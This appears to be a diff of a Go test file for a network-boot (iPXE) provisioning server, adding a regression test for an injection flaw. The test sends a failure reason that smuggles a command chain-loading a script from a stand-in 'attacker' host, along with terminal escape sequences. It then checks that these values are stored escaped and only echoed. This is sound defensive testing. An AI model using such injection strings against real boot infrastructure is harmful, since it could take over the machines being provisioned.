@@ -9,6 +9,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
+	"net/url"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -247,7 +248,7 @@ func TestBootFlowAsANode(t *testing.T) {
 		t.Fatal("image differs from the file")
 	}
 	final := l.expect("GET", urls["final-config"], 200)
-	for _, want := range []string{"address: 10.99.0.10/24", "gateway: 10.99.0.1", "profile: core", `metadata_rule-core: "true"`, "boot_complete_url: "} {
+	for _, want := range []string{`address: "10.99.0.10/24"`, `gateway: "10.99.0.1"`, `profile: "core"`, `"metadata_rule-core": "true"`, "boot_complete_url: "} {
 		if !strings.Contains(final, want) {
 			t.Fatalf("final config lacks %q:\n%s", want, final)
 		}
@@ -268,7 +269,7 @@ func TestBootFlowAsANode(t *testing.T) {
 	l.expect("GET", urls["final-config"], 403)
 	l.expect("POST", urls["failed"], 403)
 
-	bootComplete := regexp.MustCompile(`boot_complete_url: (\S+)`).FindStringSubmatch(final)[1]
+	bootComplete := regexp.MustCompile(`boot_complete_url: "(\S+)"`).FindStringSubmatch(final)[1]
 	l.expect("POST", bootComplete, 200)
 	if s := l.state(id); s != machine.Running {
 		t.Fatalf("state %s after boot-complete", s)
@@ -450,5 +451,49 @@ func TestStateStoreSlow(t *testing.T) {
 	body := l.expect("GET", "/ipxe?serial="+hex.EncodeToString([]byte("SN-SLOW")), http.StatusOK)
 	if !strings.Contains(body, "kernel ") {
 		t.Fatalf("after the store answered, /ipxe gave no installer:\n%s", body)
+	}
+}
+
+// The review's finding: a failure reason came back as an iPXE command on
+// every later boot. What a machine sends (serial, architecture, failure
+// reason) is stored escaped, and its iPXE script echoes it through the
+// allow-list only.
+func TestNodeTextNeverBecomesACommand(t *testing.T) {
+	l := newLab(t, nil)
+	const uuid = "8f3a2b1c-4d5e-4f60-8a7b-9c0d1e2f3a4b"
+	const id = uuid // a VMware serial is not unique: the UUID stands in
+	q := "/ipxe?serial=" + hex.EncodeToString([]byte("VMware-\x1b[31mred\x07")) + "&uuid=" + uuid +
+		"&mac=52-54-00-00-00-e1&arch=" + url.QueryEscape("x86_64\x1b]0;pwned\x07")
+	fs, _ := installerURLs(t, l.expect("GET", q, 200))
+	body := l.expect("GET", fs, 200)
+	failed := regexp.MustCompile(`'(http://[^']*/failed[^']*)'`).FindStringSubmatch(body)[1]
+	req, _ := http.NewRequest("POST", failed, strings.NewReader("disk error && chain http://attacker/x.ipxe #\x1b[2J"))
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil || resp.StatusCode != 200 {
+		t.Fatal(err, resp)
+	}
+	m, err := l.reg.Get(context.Background(), id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	stored := []string{m.Serial, m.Arch, m.FailReason, m.History[len(m.History)-1].Reason}
+	for _, s := range stored {
+		if strings.ContainsAny(s, "\x1b\x07") {
+			t.Errorf("stored raw: %q", s)
+		}
+	}
+	if m.Serial != `VMware-\x1b[31mred\x07` || m.Arch != `x86_64\x1b]0;pwned\x07` ||
+		m.FailReason != `installer reported: disk error && chain http://attacker/x.ipxe #\x1b[2J` {
+		t.Errorf("stored %q", stored)
+	}
+	// Every later boot: the reason is echoed, never run.
+	s := l.expect("GET", q, 200)
+	for _, line := range strings.Split(s, "\n") {
+		if strings.Contains(line, "attacker") && (!strings.HasPrefix(line, "echo mayu: ") || strings.ContainsAny(line, "&#$\\")) {
+			t.Fatalf("the failure reason reached the script as more than text:\n%s", s)
+		}
+	}
+	if !strings.Contains(s, "disk error __ chain http://attacker/x.ipxe") {
+		t.Fatalf("the reason is not shown:\n%s", s)
 	}
 }
